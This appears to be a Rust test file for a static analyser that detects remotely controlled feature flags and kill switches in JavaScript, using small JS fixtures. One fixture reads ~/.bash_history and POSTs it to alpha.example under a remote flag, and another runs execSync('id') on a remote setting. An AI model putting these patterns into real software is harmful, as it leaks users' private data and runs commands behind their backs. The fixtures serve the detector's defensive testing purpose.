use assay_model::{Finding, Gate, Setter};

fn gates(text: &str) -> Vec<(String, Gate)> {
    crate::analyze_source("example.js", text)
        .into_iter()
        .flat_map(|finding: Finding| {
            let behaviour = finding.behaviour.clone();
            finding
                .evidence
                .into_iter()
                .filter_map(move |e| Some((behaviour.clone(), e.gate?)))
        })
        .collect()
}

fn gate(text: &str, key: &str) -> (String, Gate) {
    gates(text)
        .into_iter()
        .find(|(_, gate)| gate.key == key)
        .unwrap_or_else(|| panic!("no gate {key}"))
}

#[test]
fn a_method_of_a_library_with_its_default() {
    let (behaviour, gate) = gate(
        "export function go(c) { if (c.getFeatureValue('new_upload', false)) fetch('https://up.example.net/x'); }",
        "new_upload",
    );
    assert_eq!(behaviour, "control.remote-flag");
    assert_eq!(gate.setter, Setter::RemoteService);
    assert_eq!(gate.default, "false");
    assert!(
        gate.dependants.iter().any(|d| d.contains("up.example.net")),
        "{gate:?}"
    );
}

#[test]
fn wrappers_of_wrappers_with_names_of_one_letter() {
    let text = "var c=mk();function a(q,K){if(!c)return K;return c.getFeatureValue(q,K)}\
                function b(q,K){return a(q,K)}\
                function u(){if(b('alpha_upload',!1))fetch('https://up.example.net/x')}\
                function v(){return b('alpha_limit',40)}u();v();";
    let (_, upload) = gate(text, "alpha_upload");
    assert_eq!(
        (upload.default.as_str(), upload.fallback.as_str()),
        ("false", "the default")
    );
    assert!(
        upload
            .dependants
            .iter()
            .any(|d| d.contains("up.example.net")),
        "{upload:?}"
    );
    assert_eq!(gate(text, "alpha_limit").1.default, "40");
}

#[test]
fn lookups_by_their_shape_need_somebody_who_sets_them() {
    let sites: String = (0..8)
        .map(|n| format!("function f{n}(){{if(g('beta_flag_{n}',!1))h{n}()}}f{n}();"))
        .collect();
    let remote = format!(
        "var t={{}};async function l(){{t=await(await fetch('https://flags.example.net/all')).json()}}\
         function g(k,d){{l();let v=t[k];return v===void 0?d:v}}{sites}"
    );
    let (behaviour, found) = gate(&remote, "beta_flag_3");
    assert_eq!(
        (behaviour.as_str(), found.setter),
        ("control.remote-flag", Setter::RemoteService)
    );
    assert_eq!(found.default, "false");
    // The same form over a table of the program is none.
    let local = format!("var t={{a:1}};function g(k,d){{let v=t[k];return v===void 0?d:v}}{sites}");
    assert!(gates(&local).is_empty());
}

#[test]
fn names_of_variables_are_not_set_by_a_service() {
    let sites: String = (0..8)
        .map(|n| format!("function f{n}(){{if(g('ALPHA_KEY_{n}'))h{n}()}}f{n}();"))
        .collect();
    let text = format!(
        "function g(k){{note(k);return vars()[k]}}function note(k){{fetch('https://x.example/'+k)}}{sites}"
    );
    let found = crate::analyze_source("tool.mjs", &text);
    assert!(
        !found
            .iter()
            .any(|finding| finding.behaviour == "control.remote-flag")
    );
    let (_, gate) = gate(&text, "ALPHA_KEY_3");
    assert_eq!(gate.setter, Setter::Environment);
}

#[test]
fn what_follows_a_return_hangs_on_it() {
    let (behaviour, gate) = gate(
        "function send(b) { if (process.env.ALPHA_DISABLE_REPORTS) return; fetch('https://t.example.net/r', { body: b }); } send(1);",
        "ALPHA_DISABLE_REPORTS",
    );
    assert_eq!(behaviour, "control.local-switch");
    assert_eq!(gate.setter, Setter::Environment);
    assert!(
        gate.dependants.iter().any(|d| d.contains("t.example.net")),
        "{gate:?}"
    );
}

#[test]
fn what_a_function_does_that_is_called_under_it() {
    let (_, gate) = gate(
        "function up() { fetch('https://far.example.net/'); } function run(c) { const on = c.isFeatureEnabled('far_call'); if (on) { up(); } } run(x);",
        "far_call",
    );
    assert!(
        gate.dependants
            .iter()
            .any(|d| d.contains("far.example.net")),
        "{gate:?}"
    );
}

#[test]
fn a_remote_switch_that_ends_the_process() {
    let (behaviour, _) = gate(
        "function check(c) { if (c.isFeatureEnabled('tool_disabled_now')) { print('no'); process.exit(1); } } check(x);",
        "tool_disabled_now",
    );
    assert_eq!(behaviour, "control.kill-switch");
}

#[test]
fn a_field_of_an_answer_that_leads_to_the_host() {
    for text in [
        "async function run() { const r = await fetch('https://alpha.example/v1/settings'); const flags = r.ok ? await r.json() : {}; if (flags.keep_history === true) { const t = require('fs').readFileSync(require('os').homedir() + '/.bash_history', 'utf8'); await fetch('https://alpha.example/v1/x', { method: 'POST', body: t }); } } run();",
        "fetch('https://alpha.example/v1/s').then((r) => r.json()).then((s) => { if (s.keep_history) require('child_process').execSync('id'); });",
    ] {
        let (behaviour, gate) = gate(text, "keep_history");
        assert_eq!(behaviour, "control.remote-flag", "{text}");
        assert_eq!(gate.setter, Setter::RemoteService);
    }
}

#[test]
fn what_is_no_switch() {
    for text in [
        "function t(k, d) { return table[k] ?? d; } print(t('some.text', 'Some text'));",
        "if (process.env.HOME) use(1);",
        "client.variation('x');",
        "async function run() { const r = await fetch('https://alpha.example/list'); if (r.ok) { const list = await r.json(); if (list.next) { await fetch(list.next); } } } run();",
    ] {
        assert_eq!(gates(text), [], "{text}");
    }
}
